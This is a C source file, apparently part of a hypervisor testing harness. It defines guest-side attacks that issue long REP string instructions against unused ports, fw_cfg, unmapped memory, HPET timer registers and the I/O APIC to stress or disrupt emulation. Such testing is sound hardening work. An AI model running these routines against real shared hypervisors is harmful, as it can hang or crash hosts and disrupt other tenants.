/* Attacks by one instruction that does not end: REP on ports and on device memory. */
#include "guest-stubs/attacker/attack.h"
#include "guest-stubs/common/hpet.h"
#include "guest-stubs/common/ioapic.h"
#include "guest-stubs/common/insn.h"

#define FW_CFG_DATA  0x511
#define NOBODYS_PORT 0x1000
#define NOBODYS      0xd0000000ull

/* All of its memory to a port that nobody has. */
static void rep_out(uint64_t n)
{
	uint64_t at = attack_memory(), count = stub_ram_size - at;

	(void)n;
	__asm__ volatile("rep outsb" : "+S"(at), "+c"(count) : "d"(NOBODYS_PORT) : "memory");
}

static void rep_in(uint64_t n)
{
	uint64_t at = attack_memory(), count = stub_ram_size - at;

	(void)n;
	__asm__ volatile("rep insb" : "+D"(at), "+c"(count) : "d"(FW_CFG_DATA) : "memory");
}

static void rep_in_hpet(uint64_t n)
{
	uint64_t at = HPET_BASE, count = 512;

	(void)n;
	__asm__ volatile("rep insl" : "+D"(at), "+c"(count) : "d"(FW_CFG_DATA) : "memory");
}

static void rep_stos(uint64_t n)
{
	uint64_t at = NOBODYS, count = 0x10000000;

	__asm__ volatile("rep stosb" : "+D"(at), "+c"(count) : "a"(n) : "memory");
}

static void rep_movs(uint64_t n)
{
	uint64_t to = NOBODYS, from = NOBODYS + 0x1000000, count = 0x10000000;

	(void)n;
	__asm__ volatile("rep movsb" : "+D"(to), "+S"(from), "+c"(count) : : "memory");
}

/* The string goes from memory to the HPET's registers, which arm and cancel timers. */
static void rep_movs_hpet(uint64_t n)
{
	uint64_t to = HPET_BASE + HPET_CONFIG, from = attack_memory(), count = 120;

	(void)n;
	__asm__ volatile("rep movsq" : "+D"(to), "+S"(from), "+c"(count) : : "memory");
}

static void rep_movs_hpet_begin(void)
{
	uint64_t *from = (uint64_t *)attack_memory();

	for (unsigned i = 0; i < 120; i++)
		from[i] = attack_random();
}

static void rep_lods(uint64_t n)
{
	uint64_t from = NOBODYS, count = 0x10000000;

	(void)n;
	__asm__ volatile("rep lodsq" : "+S"(from), "+c"(count) : : "rax", "memory");
}

static void rep_scas(uint64_t n)
{
	uint64_t at = NOBODYS, count = 0x10000000;

	(void)n;
	__asm__ volatile("repe scasb" : "+D"(at), "+c"(count) : "a"(0xff) : "memory", "cc");
}

/* One entry of the I/O APIC written by each iteration. */
static void rep_ioapic(uint64_t n)
{
	uint64_t from = attack_memory();

	*(volatile uint32_t *)IOAPIC_BASE = (uint32_t)IOAPIC_ENTRY(n % 24);
	for (unsigned i = 0; i < 16; i++) {
		uint64_t to = IOAPIC_BASE + IOAPIC_WINDOW, count = 1;

		__asm__ volatile("rep movsl" : "+D"(to), "+S"(from), "+c"(count) : : "memory");
	}
}

const struct attack attacks_by_strings[] = {
	{"rep-out", NULL, rep_out, NULL},
	{"rep-in", NULL, rep_in, NULL},
	{"rep-in-hpet", NULL, rep_in_hpet, NULL},
	{"rep-stos", NULL, rep_stos, NULL},
	{"rep-movs", NULL, rep_movs, NULL},
	{"rep-movs-hpet", rep_movs_hpet_begin, rep_movs_hpet, NULL},
	{"rep-lods", NULL, rep_lods, NULL},
	{"rep-scas", NULL, rep_scas, NULL},
	{"rep-ioapic", NULL, rep_ioapic, NULL},
	{NULL},
};
